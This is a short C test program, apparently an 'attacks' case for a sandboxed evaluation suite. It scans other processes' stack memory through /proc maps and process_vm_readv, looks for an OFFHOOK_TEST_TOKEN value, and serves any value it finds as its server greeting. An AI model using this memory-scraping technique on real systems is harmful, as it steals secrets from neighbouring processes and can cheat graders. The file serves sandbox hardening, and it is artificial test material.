/* kind: attacks
 * exercise: hello_server
 * tries: to send a secret of the suite's environment, from the memory of its processes
 * promise: status=0
 * judged: transfer.greeting
 */
#include "honest.h"
#include "each.h"

static char found[64];

static void look_into(int process)
{
    static char piece[1 << 20];
    char path[64], line[256];
    unsigned long from, to;

    snprintf(path, sizeof path, "/proc/%d/maps", process);
    FILE *maps = fopen(path, "re");
    while (maps != NULL && found[0] == '\0' && fgets(line, sizeof line, maps) != NULL) {
        if (sscanf(line, "%lx-%lx", &from, &to) != 2 || strstr(line, "[stack]") == NULL)
            continue;
        struct iovec ours = {piece, to - from < sizeof piece ? to - from : sizeof piece};
        struct iovec theirs = {(void *)(to - ours.iov_len), ours.iov_len};
        ssize_t count = process_vm_readv(process, &ours, 1, &theirs, 1, 0);
        char *at = count > 0 ? memmem(piece, (size_t)count, "OFFHOOK_TEST_TOKEN=", 19) : NULL;
        if (at != NULL)
            snprintf(found, sizeof found, "%.40s", at + 19);
    }
    if (maps != NULL)
        fclose(maps);
}

static const char *found_in_memory(void)
{
    for_each(look_into);
    return found[0] != '\0' ? found : GREETING;
}

int main(int argc, char *argv[])
{
    return serve(argc, argv, found_in_memory());
}
